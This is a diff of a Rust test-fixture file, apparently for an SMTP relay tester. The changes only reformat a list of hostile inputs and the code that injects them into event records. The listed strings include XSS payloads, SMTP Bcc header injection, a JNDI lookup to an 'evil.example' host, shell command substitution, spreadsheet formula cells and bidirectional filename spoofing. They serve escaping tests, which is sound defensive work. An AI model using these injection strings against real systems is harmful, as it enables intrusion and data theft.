@@ -21,7 +21,12 @@ pub const KINDS: &[(&str, &[u8])] = &[
     ("no UTF-8", b"\xff\xfe\xc3\x28\xed\xa0\x80"),
     ("bidirectional", "\u{202e}\u{2066}\u{200f}\u{61c}\u{2069}gpj.exe".as_bytes()),
     ("invisible", "\u{200b}\u{feff}\u{2060}\u{ad}\u{e0041}".as_bytes()),
-    ("line breaks", "x\r\n250 2.1.5 Ok\r\nBcc: victim@example.net\r\n\r\n\u{2028}\u{2029}\u{85}y".as_bytes()),
+    (
+        "line breaks",
+        "x\r\n250 2.1.5 Ok\r\nBcc: \
+                     victim@example.net\r\n\r\n\u{2028}\u{2029}\u{85}y"
+            .as_bytes(),
+    ),
     ("HTML", b"<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"),
     ("attributes", b"\" onmouseover=\"x ' onfocus='x' autofocus `x`"),
     ("the end of an element", b"</code></pre></td></table></title></textarea><b>--></style>"),
@@ -34,7 +39,11 @@ pub const KINDS: &[(&str, &[u8])] = &[
     ("cells", b"\",\"=1\"\r\n\"=1\";=1"),
     ("format strings", b"%s%n%x%1$s {0} {domain} ${jndi:ldap://evil.example/x} $(id) `id` {{7*7}}"),
     ("mentions", b"@everyone @here @octocat <!channel> <@U1> @all !1 #1"),
-    ("links", b"[x](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> http://evil.example www.evil.example"),
+    (
+        "links",
+        b"[x](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> \
+                http://evil.example www.evil.example",
+    ),
     ("blocks", b"# x ~~~ ``` ```` > x | a | b | ***x*** ~~x~~ --- 1. x"),
     ("metrics", b"mx\",code=\"550\"} 1\nnorelay_tests_total 9\n| relayed=9;;;0"),
 ];
@@ -49,7 +58,9 @@ fn put(event: &mut Event, text: &[u8]) {
     let words = || String::from_utf8_lossy(text).into_owned();
     match event {
         Event::RunStarted(run) => run.target.push_str(&words()),
-        Event::Resolved { exchangers } => exchangers.iter_mut().for_each(|exchanger| exchanger.name = Some(words())),
+        Event::Resolved { exchangers } => exchangers
+            .iter_mut()
+            .for_each(|exchanger| exchanger.name = Some(words())),
         Event::PathAdded { way, .. } => way.host = Some(words()),
         Event::Secured { tls, .. } => {
             (tls.subject, tls.issuer) = (Some(Octets::from(text)), Some(Octets::from(text)));
@@ -57,7 +68,9 @@ fn put(event: &mut Event, text: &[u8]) {
             tls.troubles.push(words());
         }
         Event::Replied { reply, .. } => put_in(reply, text),
-        Event::Noted { arguments, .. } => arguments.iter_mut().for_each(|argument| *argument = Octets::from(text)),
+        Event::Noted { arguments, .. } => arguments
+            .iter_mut()
+            .for_each(|argument| *argument = Octets::from(text)),
         Event::NotRun { why, .. } => why.push_str(&words()),
         Event::GivenUp { cause, .. } => put_in_cause(cause, text),
         Event::Ended { end: End::Interrupted(cause), .. } => put_in_cause(cause, text),
@@ -77,7 +90,9 @@ fn put_in_cause(cause: &mut Cause, text: &[u8]) {
         }
         Cause::Closing { reply, .. } => put_in(reply, text),
         Cause::Violated { violation, .. } => match violation {
-            Violation::Unsolicited { reply } | Violation::Misplaced { reply } => put_in(reply, text),
+            Violation::Unsolicited { reply } | Violation::Misplaced { reply } => {
+                put_in(reply, text)
+            }
             Violation::NotAReply { line } => *line = Octets::from(text),
             _ => {}
         },
@@ -89,11 +104,14 @@ fn put_in_cause(cause: &mut Cause, text: &[u8]) {
 pub fn records(log: &str, text: &[u8]) -> Vec<Record> {
     let text = [text, MARK.as_bytes()].concat();
     let mut records = read_log(log).records;
-    records.iter_mut().for_each(|record| put(&mut record.event, &text));
+    records
+        .iter_mut()
+        .for_each(|record| put(&mut record.event, &text));
     records
 }
 
-/// Controls, and what can't be seen and turns what can (Unicode's bidirectional and format characters).
+/// Controls, and what can't be seen and turns what can (Unicode's bidirectional and format
+/// characters).
 pub fn acts(character: char) -> bool {
     let is_control = character.is_control() && !matches!(character, '\n' | '\r');
     is_control
